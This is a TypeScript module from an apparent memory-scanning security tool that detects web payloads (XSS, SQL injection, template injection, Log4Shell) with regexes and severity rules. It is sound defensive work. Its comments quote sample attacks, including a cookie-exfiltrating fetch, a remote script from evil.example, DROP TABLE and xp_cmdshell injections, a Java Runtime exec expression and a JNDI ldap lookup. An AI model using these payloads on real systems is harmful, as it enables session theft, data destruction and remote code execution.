/**
 * Payloads aimed at the programs a memory flows into rather than at the agent: script injected into HTML (a memory
 * shown in a web page runs it), SQL that breaks out of a quoted value, template expressions that a server-side
 * renderer evaluates (SSTI), and JNDI lookups that a logging library resolves (Log4Shell). The shapes are the attack's own, not the technology's: a page's `<script src="https://cdn…">`, a
 * consent banner that sets `document.cookie`, `href="javascript:void(0)"` or an ordinary `SELECT … WHERE name = 'x'`
 * pass; a script that sends the cookie away, a handler that pops `alert(1)`, `' OR '1'='1` and `'; DROP TABLE` do not.
 *
 * Severity: `high` for what takes something or changes something (the cookie read and sent, code decoded and run, a
 * remote script after an attribute is closed, a stacked destructive statement, `xp_cmdshell`, a template expression
 * that reaches the process API, a JNDI lookup); `medium` for the probes that only show the hole (`alert(1)`, a
 * tautology, `UNION SELECT`, a timed sleep, `{{7*7}}`). Beside
 * words of a lesson, a test or a report ("example", "payload", "sanitize", "blocked", "CVE-…") it is a level lower,
 * two when it is quoted or in backticks: an example shown or a value a WAF logged.
 */
import type { Chunk, RuleHit, Severity } from '../../types'
import { evidenceOf, shift } from './hit'

interface WebPayload {
  /** A cheap test a chunk must pass before `re` is tried (most chunks hold no tag, no SQL keyword, no `${`). */
  gate: (body: string) => boolean
  re: RegExp
  severity: Severity
  what: string
}

const HTML_GATE = /<[a-z]|javascript:|data:text\/html|["'`]\s*on[a-z]{3,20}\s*=/i
/**
 * What every match of the script payloads holds: a script tag, an event handler's attribute or a `javascript:` URL. A
 * page or an e-mail with an address in angle brackets passes the HTML gate, and the payloads' expressions, which may
 * start at any line, cost 2 % of such a scan.
 */
const SCRIPT_GATE = /<script|(?:\s|\\x[0-9a-f]{2}|["'`/])on[a-z]{3,20}\s*=|javascript\s*:|data:text\/html/i
const SCRIPT_PAYLOAD = (body: string): boolean => HTML_GATE.test(body) && SCRIPT_GATE.test(body)
const SQL_GATE =
  /['"]\s*\)?\s*(?:;|OR\b|AND\b|UNION\b|\|\||INSERT\b|DELETE\b|DROP\b|UPDATE\b)|\d\s*\)?\s*;\s*(?:DROP|DELETE|TRUNCATE|ALTER|UPDATE|INSERT|SHUTDOWN)\b|xp_cmdshell|WAITFOR|\bEXEC(?:UTE)?\s*\(/i

/** The session read (not set: a consent banner writes `document.cookie = "consent=yes"`). */
const SESSION = String.raw`(?:document\.cookie(?!\s*=[^=])|localStorage|sessionStorage)`
/** Somewhere to send it: a request, a beacon, an image or a navigation. */
const SEND = String.raw`(?:fetch\s*\(|XMLHttpRequest|sendBeacon|\.src\s*=|location(?:\.href)?\s*=|\.open\s*\(|\bImage\s*\()`
/** Code decoded and run: what a payload hides behind (`eval(atob('…'))`, `Function(String.fromCharCode(…))`). */
const DECODED_RUN = String.raw`(?:eval|Function|setTimeout|setInterval)\s*\(\s*(?:atob|unescape|decodeURIComponent|String\.fromCharCode|location\.hash|document\.(?:URL|location))\b`
/** Script code that takes the session or runs decoded code, in a script, a handler or a `javascript:` URL. */
const TAKES = (inside: string): string =>
  String.raw`(?:(?=${inside}{0,400}?${SESSION})(?=${inside}{0,400}?${SEND})|(?=${inside}{0,400}?${DECODED_RUN}))`
const PROBE = String.raw`(?:(?:alert|prompt|confirm)\s*[(\x60]|(?:window\.)?onerror\s*=\s*(?:alert|prompt|confirm)\b)`
/**
 * The probe a page that blocks dialogs is tested with, counted only where a page's own button or link would not put it
 * (a script of its own, an error handler): `<a href="javascript:print()">Print this page</a>` is a page's.
 */
const PRINT_PROBE = String.raw`print\s*[(\x60]`
/** An escape written out where a filter-evading vector puts a control character (`\x0B`, `\xE2\x80\x89`). */
const WRITTEN_ESCAPE = String.raw`(?:\\x[0-9a-fA-F]{2})`

/** A statement that changes the database or stops it (after a value broken out of). */
const CHANGES_DATABASE = String.raw`(?:DROP\s+(?:TABLE|DATABASE|SCHEMA)|DELETE\s+FROM|TRUNCATE\s+(?:TABLE\s+)?\w|ALTER\s+TABLE|UPDATE\s+\w+\s+SET|INSERT\s+INTO|SHUTDOWN\b)`

const PAYLOADS: WebPayload[] = [
  {
    // <script>fetch('https://x/?c='+document.cookie)</script>; <svg onload=eval(atob('…'))>; javascript:fetch(…)
    re: new RegExp(
      String.raw`<script\b[^>]{0,200}>${TAKES('[^<]')}|<[a-z][\w-]*\b[^>]{0,200}?\son[a-z]{3,20}\s*=${TAKES('[^>]')}|(?:\b(?:href|src|action|formaction|data)\s*=\s*["']?\s*|^\s*)javascript\s*:${TAKES('[^\\s"\'>]')}`,
      'gim',
    ),
    severity: 'high',
    what: 'script injected into HTML that takes the session or fetches code',
    gate: SCRIPT_PAYLOAD,
  },
  {
    // "><script src=https://evil.example/x.js></script>: an attribute closed outside any tag, then a remote script
    // loaded (in a page, `<meta content="…">` before `<script src=…>` closes a tag that was opened)
    re: /(?<!<[^<>]{0,1000})["']\s*\/?>\s*<script\b[^>]{0,200}\bsrc\s*=/gi,
    severity: 'high',
    what: 'an attribute closed outside any tag and a remote script loaded',
    gate: (body) => /<script/i.test(body),
  },
  {
    // <script>alert(1)</script>, <img src=x onerror=alert(document.domain)>, javascript:alert(1): the hole shown
    re: new RegExp(
      String.raw`<script\b[^>]{0,200}>\s{0,20}(?:${PROBE}|${PRINT_PROBE})|<[a-z][\w-]*\b[^>]{0,200}?(?:\s|${WRITTEN_ESCAPE}|\/)(?:onerror\s*=\s*${WRITTEN_ESCAPE}?["']?\s{0,20}(?:javascript:){0,2}${PRINT_PROBE}|on[a-z]{3,20}\s*=\s*${WRITTEN_ESCAPE}?["']?\s{0,20}(?:javascript:){0,2}(?:${PROBE}))|(?:\b(?:href|src|action|formaction|data)\s*=\s*["']?\s*|^\s*)javascript\s*:\s{0,20}(?:${PROBE})`,
      'gim',
    ),
    severity: 'medium',
    what: 'a script probe injected into HTML',
    gate: SCRIPT_PAYLOAD,
  },
  {
    // Filter-evasion vectors from the XSS cheat sheets: a `javascript:` URL written anywhere a browser may still read one
    // (`expression(javascript:alert(1))`, `\x0Bjavascript:javascript:alert(1)`), an attribute closed and a handler
    // opened (`"onerror="alert(1)`), an HTML document in a data URL (`href="data:text/html;base64,…"`). No space after
    // the colon: "JavaScript: alert('hi') shows a dialog" is a sentence
    re: new RegExp(
      String.raw`javascript:(?:javascript:)?${PROBE}|(?:^|\s)["'\x60]\s*on[a-z]{3,20}\s*=\s*["']?${PROBE}|(?:\b(?:href|src|action|formaction|data)\s*=\s*["']?\s*|\]\(\s*|^\s*)data:text\/html[;,]`,
      'gim',
    ),
    severity: 'medium',
    what: 'a script vector written to pass a filter',
    gate: SCRIPT_PAYLOAD,
  },
  {
    // [link](javascript:prompt(document.cookie)): a Markdown link whose target runs script when it is clicked, where the
    // renderer keeps the scheme; Markdown has no use for one (`javascript:void(0)` is a page's placeholder, not a link's)
    re: /\[[^\]\n]{0,100}\]\(\s*javascript\s*:(?!\s*void\b)\S{1,120}/gi,
    severity: 'medium',
    what: 'a Markdown link that runs script',
    gate: (body) => /\]\(\s*javascript\s*:/i.test(body),
  },
  {
    // '; DROP TABLE users; --   "); DELETE FROM accounts --   1; EXEC xp_cmdshell('whoami')
    // 10; DROP TABLE users --   (a number's value closed, the rest of the query commented out)
    re: new RegExp(
      String.raw`['"]\s*\)?\s*;\s*(?:${CHANGES_DATABASE}|EXEC(?:UTE)?\s)|\bxp_cmdshell\b|(?<![\w.])\d+\s*\)?\s*;\s*${CHANGES_DATABASE}[^\n;]{0,200};?[ \t]*(?:--|#|\/\*)[ \t]*\.?[ \t]*$`,
      'gim',
    ),
    severity: 'high',
    what: 'SQL that breaks out of a value and changes the database',
    gate: (body) => SQL_GATE.test(body),
  },
  {
    // ' OR '1'='1   " or ""="   ' OR 1=1 --   ' UNION SELECT username, password FROM users --   ' AND SLEEP(5)--
    // ' AND IF(SUBSTRING(password, 1, 1) = 'a', SLEEP(5), 0); --   ' INSERT INTO users VALUES ('x'); --
    // EXEC('SEL' + 'ECT *')
    re: /['"]\s*\)?\s*(?:OR|\|\|)\s+['"]?(\w{1,10})['"]?\s*=\s*['"]?\1\b|['"]\s*\)?\s*(?:OR|AND)\s+['"]{2}\s*=\s*['"]|['"]\s*\)?\s*UNION\s+(?:ALL\s+)?SELECT\b|['"]\s*\)?\s*(?:AND|OR|;)\s+(?:SLEEP|BENCHMARK|pg_sleep)\s*\(\s*\d|['"]\s*\)?\s*(?:AND|OR)\s+IF\s*\([^\n]{0,120}?\b(?:SLEEP|BENCHMARK|pg_sleep)\s*\(\s*\d|['"]\s*\)?\s*;?\s*WAITFOR\s+DELAY\s+['"]|(?<![\w'"])['"]\s+(?:INSERT\s+INTO|DELETE\s+FROM|DROP\s+TABLE|UPDATE\s+\w+\s+SET)\b[^\n]{0,300}?;?[ \t]*(?:--|#)[ \t]*\.?[ \t]*$|\bEXEC(?:UTE)?\s*\(\s*'[A-Za-z]{1,12}'\s*\+\s*'[A-Za-z][^'\n]{0,40}'/gim,
    severity: 'medium',
    what: 'SQL that breaks out of a value',
    gate: (body) => SQL_GATE.test(body),
  },
  {
    // ${T(java.lang.Runtime).getRuntime().exec('id')} (Spring EL), <#assign ex="freemarker.template.utility.Execute"?new()>
    // (FreeMarker), #set($rt = $x.class.forName("java.lang.Runtime")) (Velocity): a template expression that reaches the
    // process API of the server that renders it
    re: /[$#*]\{[^{}]{0,40}\bT\s*\(\s*java\.lang\.(?:Runtime|ProcessBuilder)\s*\)|["']freemarker\.template\.utility\.(?:Execute|ObjectConstructor|JythonRuntime)["']\s*\?\s*new\s*\(|\bforName\s*\(\s*["']java\.lang\.(?:Runtime|ProcessBuilder)["']\s*\)/g,
    severity: 'high',
    what: 'a template expression that runs a command on the server rendering it',
    gate: (body) => body.includes('java.lang') || body.includes('freemarker'),
  },
  {
    // {{7*7}}, ${7*7}, #{7*7}, <%= 7*7 %>, {{7*'7'}}, @(7*7): a number times itself in a template's delimiters, the probe
    // that shows a renderer evaluates what it is given (a template's own arithmetic multiplies names: {{ price * qty }})
    re: /(?:\{\{=?|\$\{\{?|#\{|\*\{|<%=?|@\()\s*(\d{1,6})\s*\*\s*(['"]?)\1\2\s*(?:\}\}?|%>|\))/g,
    severity: 'medium',
    what: 'a template injection probe',
    gate: (body) => body.includes('*'),
  },
  {
    // ${jndi:ldap://evil.example/a}, ${${lower:j}ndi:rmi://…}: a lookup that Log4j resolves and loads code from (not a
    // Spring placeholder with a default, `${server.url:http://localhost:8080}`)
    re: /\$\{jndi:|\$\{(?=[jndi]{0,3}\$\{)(?:\$\{[^}]{0,30}\}|[jndi]){2,12}:(?:\$\{[^}]{0,30}\}|[a-z]){2,10}:\/\//gi,
    severity: 'high',
    what: 'a JNDI lookup (Log4Shell)',
    gate: (body) => body.includes('${'),
  },
]

/** Words of a lesson, a test or a report about the attack, around an example or a record of it. */
const TEACHING =
  /\b(?:(?<!\.)example|e\.g\.|for instance|such as|payloads?|test(?:s|ing|ed)?(?: for)?(?!\s+(?:your|a\s+new|the\s+new|my\s+new)\b)|render(?:s|ed)?|as text|detect(?:s|ed)?|prevent|block(?:s|ed)|denied|match(?:es|ed)|rule|escape[sd]?|encod(?:e|ed|es)|saniti[sz]|vulnerab\w*|injectable|attack(?:er|s)?|injection|XSS|SQLi|classic|exploit\w*|CVE-\d+|CWE-\d+|(?:strings?|inputs?|values?|payloads?|text) like|OWASP|WAF|ModSecurity|advisory|pentest\w*|scanner|fix(?:es|ed)?|patch(?:es|ed)?|log(?:s|ged)?)\b/i

/** Is the stretch inside backticks or double quotes on its line? (an example shown or a value recorded, not delivered) */
function quotedOnLine(text: string, start: number): boolean {
  const before = text.slice(text.lastIndexOf('\n', start - 1) + 1, start)
  return (before.match(/`/g) ?? []).length % 2 === 1 || (before.match(/["“”]/g) ?? []).length % 2 === 1
}

/** The web payloads in one chunk, lower where a lesson, a test or a log shows them. */
export function webPayloadHits(chunk: Chunk, text: string): RuleHit[] {
  const body = text.slice(chunk.start, chunk.end)
  if (!/[<'"${]|javascript:|@\(|data:text|\d\s*\)?\s*;/i.test(body)) return []
  const hits: RuleHit[] = []
  const taken: Array<[number, number]> = []
  for (const payload of PAYLOADS) {
    if (!payload.gate(body)) continue
    payload.re.lastIndex = 0
    let count = 0
    for (let m = payload.re.exec(body); m && count < 32; m = payload.re.exec(body), count++) {
      if (m[0].length === 0) {
        payload.re.lastIndex++
        continue
      }
      const start = chunk.start + m.index
      const end = start + m[0].length
      // the strongest reading of a stretch only (the tables go from strong to weak within each kind)
      if (taken.some(([a, b]) => start < b && end > a)) continue
      taken.push([start, end])
      // a lesson, a test or a log around it: two levels down when it is quoted, one when it is not
      let severity = payload.severity
      // (read before the match and after its line: the payload's own words, `alert("test")`, are not a lesson's)
      const lineEnd = text.indexOf('\n', end)
      const around = text.slice(Math.max(0, start - 160), start) + (lineEnd < 0 ? '' : text.slice(lineEnd, lineEnd + 160))
      if (TEACHING.test(around)) severity = shift(severity, quotedOnLine(text, start) ? -2 : -1)
      hits.push({ start, end, severity, evidence: evidenceOf(payload.what, m[0]) })
    }
  }
  return hits
}
